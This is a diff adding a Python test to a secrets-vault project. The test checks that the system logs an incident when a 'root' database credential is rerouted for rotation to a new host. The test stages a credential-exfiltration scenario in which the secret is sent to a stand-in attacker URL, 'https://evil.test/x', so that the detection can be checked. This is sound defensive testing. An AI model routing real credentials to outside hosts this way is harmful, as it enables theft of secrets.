@@ -14,8 +14,10 @@ from remit.kernel.errors import RemitError
 from remit.kernel.names import OwnerName, SecretName
 from remit.server.documents import TreeInvalid
 from remit.vault.document import Allowed, Cause, Rotate, SecretDocument
+from remit.vault.document_json import text
 from remit.vault.document_sql import SqlDocuments
 from remit.vault.settings import MAKERS, ROTATORS
+from remit.vault.sql import SqlSecrets
 
 NAME = SecretName("payments-key")
 HERE = "127.0.0.1:9101"
@@ -159,6 +161,29 @@ def test_nobody_signs_in_elsewhere_with_another_secret(
         rig.apply(tree)
     assert [each.field.rpartition(".")[2] for each in caught.value.problems] == ["admin"]
     assert stored(rig) is None
+
+
+def test_the_log_says_that_a_secret_is_shown_elsewhere_than_before(rig: Rig, tree: Tree) -> None:
+    """Attack: the first places of a secret are one person's word, and so they say their own."""
+    tree.secrets = [
+        {"secret": "root", "owner": "dana", "allow": [{"place": "rotation", "host": "db.test"}]},
+        {"secret": NAME, "owner": "dana", "dynamic": {"ttl": "1h", "postgres": {"admin": "root", "host": "db.test"}}},
+    ]
+    rig.apply(tree)
+    assert rig.entries("secret_to_another_host") == [], "it went nowhere before"
+    unconfined = SecretDocument(secret=SecretName("root"), owner=OwnerName("dana"))
+    rig.writer.change(lambda tx: SqlSecrets(tx.connection).put_document("root", text(unconfined)))
+    tree.secrets[0]["allow"].append({"place": "rotation", "host": "evil.test"})
+    way = {"http": {"admin": "root", "create": {"url": "https://evil.test/x"}}}
+    tree.secrets.append({"secret": "mine", "owner": "dana", "rotate": way})
+    assert "root goes to evil.test:443, before to db.test:5432" in rig.apply(tree)["secret/mine"]["note"]
+    said = {
+        "kind": "incident", "what": "secret_to_another_host", "document": "mine", "secret": "root",
+        "host": "evil.test:443", "hosts_before": ["db.test:5432"],
+    }  # fmt: skip
+    assert rig.entries("secret_to_another_host") == [said]
+    rig.apply(tree)
+    assert rig.entries("secret_to_another_host") == [said], "once"
 
 
 def test_a_secret_for_signing_in_must_be_one(rig: Rig, tree: Tree) -> None:
